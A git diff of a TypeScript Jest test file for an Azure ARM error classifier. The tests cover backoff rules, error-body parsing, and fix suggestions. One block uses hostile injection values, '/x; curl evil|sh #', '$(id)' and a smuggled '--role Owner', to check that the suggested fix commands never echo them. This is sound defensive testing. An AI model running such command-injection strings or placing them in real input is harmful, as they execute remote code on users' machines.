@@ -1,38 +1,34 @@
 import { describe, expect, it } from '@jest/globals';
-import { classifyFailure, FAILURES, readErrorBody, type ArmAnswer } from '../../src/azure/failures.ts';
-import { ANSWERS, type AnswerRow } from './arm-answers.ts';
-
-const callOf = (row: AnswerRow) => row.call ?? 'PutManagedCluster';
-
-function answerOf({ status, code, message, retryAfterMs }: AnswerRow): ArmAnswer {
-  return { status, code, message, ...(retryAfterMs === undefined ? {} : { retryAfterMs }) };
-}
+import { classifyFailure, FAILURES } from '../../src/azure/failures.ts';
+import { readErrorBody } from '../../src/azure/error-body.ts';
+import { CORPUS } from '../corpus.ts';
+import { ANSWERS, CLUSTER, type AnswerRow } from './arm-answers.ts';
 
 /** The row of FAILURES that decides, found the way classifyFailure finds it. */
-function rowFor(row: AnswerRow): string | undefined {
-  const answer = answerOf(row);
-  return FAILURES.find(({ matches }) => matches(answer, answer.code.toLowerCase(), callOf(row)))?.name;
+function rowFor({ answer, call }: AnswerRow): string | undefined {
+  return FAILURES.find(({ matches }) => matches(answer, answer.code.toLowerCase(), call, CLUSTER))?.name;
 }
 
 describe('what becomes of an answer of ARM', () => {
   it.each(ANSWERS)('$what: $reason', (row) => {
-    const failure = classifyFailure(answerOf(row), callOf(row));
+    const failure = classifyFailure(row.answer, row.call, CLUSTER);
     expect(failure).toMatchObject({
-      ...answerOf(row),
+      ...row.answer,
       reason: row.reason,
       stalled: row.stalled ?? false,
       backoff: { fromMs: row.backoff[0], toMs: row.backoff[1] },
       refused: row.ambiguous !== true,
     });
     expect(failure.quiet).toBe(row.quiet);
-    for (const words of row.mend ?? []) expect(failure.mend).toContain(words);
-    expect(failure.mend === '').toBe(row.mend === undefined);
+    for (const words of row.fix) expect(failure.mend).toContain(words);
+    for (const words of row.never) expect(failure.mend).not.toContain(words);
+    expect(failure.mend === '').toBe(row.fix.length === 0);
   });
 
   it.each(ANSWERS)('$what: the same in any spelling of the code', (row) => {
-    const expected = classifyFailure(answerOf(row), callOf(row));
-    for (const code of [row.code.toUpperCase(), row.code.toLowerCase()]) {
-      expect(classifyFailure({ ...answerOf(row), code }, callOf(row))).toEqual({ ...expected, code });
+    const expected = classifyFailure(row.answer, row.call, CLUSTER);
+    for (const code of [row.answer.code.toUpperCase(), row.answer.code.toLowerCase()]) {
+      expect(classifyFailure({ ...row.answer, code }, row.call, CLUSTER)).toEqual({ ...expected, code });
     }
   });
 
@@ -43,6 +39,11 @@ describe('what becomes of an answer of ARM', () => {
   it('has an example here for every row of the table', () => {
     const seen = new Set(ANSWERS.map(rowFor));
     expect(FAILURES.map(({ name }) => name).filter((name) => !seen.has(name))).toEqual([]);
+  });
+
+  it('has an outcome here for every error of the corpus', () => {
+    const seen = new Set(ANSWERS.map(({ what }) => what));
+    expect(CORPUS.errors.map(({ id }) => id).filter((id) => !seen.has(id))).toEqual([]);
   });
 
   it('never takes a lost or half-known write for a refused one', () => {
@@ -66,16 +67,124 @@ describe('what becomes of an answer of ARM', () => {
   });
 });
 
-describe('the body of an error', () => {
-  it.each(ANSWERS.filter(({ code }) => !code.startsWith('HTTP')))('$what: read wrapped and bare', (row) => {
-    const { code, message, status } = row;
-    const more = { details: [{ code: 'Unspecified', message: 'rpc error' }], subcode: 'Put_Failed' };
-    for (const body of [
-      { error: { code, message } },
-      { error: { code, message, ...more } },
-      { code, message, ...more },
+describe('words that nobody has written down yet', () => {
+  it.each([
+    ['OperationNotAllowed', 'Operation is not allowed: a scale operation of pool apps is still running.'],
+    ['OperationNotAllowed', 'The managed cluster is being rotated, please try again later.'],
+    ['OperationNotAllowed', 'Please wait until the current reconcile completes.'],
+    ['Conflict', 'The request conflicts with an ongoing upgrade.'],
+    ['Conflict', 'Another client is modifying the managed cluster.'],
+    ['ConcurrentUpdateError', 'Try again.'],
+    ['AnyCode', 'Managed cluster is in provisioning state Upgrading.'],
+    ['ConflictingOperationInProgress', ''],
+  ])('%s: "%s" is somebody else at work', (code, message) => {
+    const failure = classifyFailure({ status: 409, code, message }, 'PutManagedCluster');
+    expect(failure).toMatchObject({ reason: 'ClusterBusy', stalled: false, refused: true });
+  });
+
+  it.each([
+    ['Conflict', "The group 'another operation in progress' does not like it.", false],
+    ['Conflict', 'No.', false],
+    ['OperationNotAllowed', 'Downgrading is not allowed.', true],
+    ['OperationNotAllowed', 'Exceeding approved Cores quota.', true],
+  ])('%s: "%s" is a refusal, and an hour of waiting only where the words are known', (code, message, stalled) => {
+    const failure = classifyFailure({ status: 409, code, message }, 'PutManagedCluster');
+    expect(failure).toMatchObject({ reason: 'UpdateFailed', stalled, refused: true });
+    expect(failure.backoff.fromMs).toBe(stalled ? 3_600_000 : 60_000);
+  });
+
+  it.each([
+    'customCATrustCertificates[1] is not valid',
+    'securityProfile.CustomCaTrustCertificates: bad',
+    'one of the custom CA trust certificates cannot be parsed',
+    'the custom CA certificate at index 3 is no certificate',
+    'custom_ca_trust_certificates',
+  ])('"%s" is about the certificates', (words) => {
+    for (const answer of [
+      { message: words },
+      { message: 'invalid', target: words },
+      { message: 'invalid', details: words },
     ])
-      expect(readErrorBody(status, JSON.stringify(body))).toEqual({ code, message });
+      expect(classifyFailure({ status: 400, code: 'InvalidParameter', ...answer }, 'PutManagedCluster').reason).toBe(
+        'CertificateRejected',
+      );
+  });
+});
+
+describe('a fix that people copy', () => {
+  const hostile = '/x; curl evil|sh #';
+  const sayNo = (action: string, scope: string, resourceId?: string) =>
+    classifyFailure(
+      {
+        status: 403,
+        code: 'AuthorizationFailed',
+        message: `The client 'x' does not have authorization to perform action '${action}' over scope '${scope}' or the scope is invalid.`,
+      },
+      'PutManagedCluster',
+      resourceId,
+    ).mend;
+
+  it('has our own name of the cluster as its scope, whatever the answer names', () => {
+    expect(sayNo('A.B/c/write', hostile, CLUSTER)).toContain(`--scope '${CLUSTER}'.`);
+  });
+
+  it.each([hostile, '$(id)', '/x" --role Owner "', '/a b', '/`id`', '--assignee'])('never has %s', (text) => {
+    expect(sayNo('A.B/c/write', text)).toContain('--scope <resource id of the cluster>.');
+    expect(sayNo(text, '/x')).toContain('Grant Microsoft.ContainerService/managedClusters/read and /write to');
+    expect(sayNo('A.B/c/write', '/x', text)).toContain("--scope '/x'.");
+    const linked = classifyFailure(
+      {
+        status: 403,
+        code: 'LinkedAuthorizationFailed',
+        message: `it does not have permission to perform action '${text}' on the linked scope(s) '${text}' or`,
+      },
+      'PutManagedCluster',
+    );
+    expect(linked.mend).not.toContain(text);
+  });
+});
+
+describe('the body of an error', () => {
+  it.each(CORPUS.errors)('$id: read wrapped and bare', ({ status, body }) => {
+    const error = (body as { error?: object }).error ?? body;
+    expect(readErrorBody(status, JSON.stringify({ error }))).toEqual(readErrorBody(status, JSON.stringify(error)));
+  });
+
+  it('says what its details and its target add, once', () => {
+    const inner = { code: 'B', target: 't', message: 'a third', details: null };
+    const details = [
+      { code: 'A', message: 'the first' },
+      { code: 'A', message: 'a second', details: [inner] },
+      7,
+      null,
+    ];
+    const error = { code: 'Bad', message: 'It is the first.', target: 'properties.x', details };
+    expect(readErrorBody(400, JSON.stringify({ error }))).toEqual({
+      code: 'Bad',
+      message: 'It is the first. (a second; a third; target: properties.x)',
+      target: 'properties.x',
+      details: 'A  the first; A  a second; B t a third',
+    });
+  });
+
+  it('is bounded, however deep, long and wide it is', () => {
+    const deep = '{"code":"A","message":"m","details":['.repeat(5000) + ']}'.repeat(5000);
+    const wide = JSON.stringify({ code: 'A', message: 'm', details: Array(5000).fill({ message: 'x'.repeat(20) }) });
+    const long = JSON.stringify({ code: 'A', message: 'm'.repeat(1_000_000) });
+    for (const text of [deep, wide, long, '{"a":'.repeat(100_000)])
+      expect(JSON.stringify(readErrorBody(400, text)).length).toBeLessThan(20_000);
+  });
+
+  it('lists the api-versions of a message that is too long to be kept', () => {
+    const versions = Array.from(
+      { length: 200 },
+      (_, i) => `20${String(10 + (i % 16))}-01-${String(10 + (i % 18))}-preview`,
+    );
+    const message = `The supported api-versions are '${versions.join(', ')}, 2026-01-01'.`;
+    const read = readErrorBody(400, JSON.stringify({ error: { code: 'NoRegisteredProviderFound', message } }));
+    expect(read.message.length).toBeLessThanOrEqual(2048);
+    expect(read.supportedVersions?.at(-1)).toBe('2026-01-01');
+    expect(classifyFailure({ status: 400, ...read }, 'GetManagedCluster').mend).toContain('2026-01-01');
   });
 
   it('may come without a message', () => {
